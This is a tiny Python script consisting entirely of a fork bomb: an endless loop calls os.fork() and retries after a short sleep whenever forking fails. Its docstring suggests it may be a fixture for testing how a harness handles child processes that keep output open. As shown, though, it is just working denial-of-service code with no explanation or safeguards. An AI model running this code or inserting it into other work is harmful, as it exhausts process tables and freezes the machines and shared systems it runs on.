"""Fills its processes, all of which hold on to the output."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
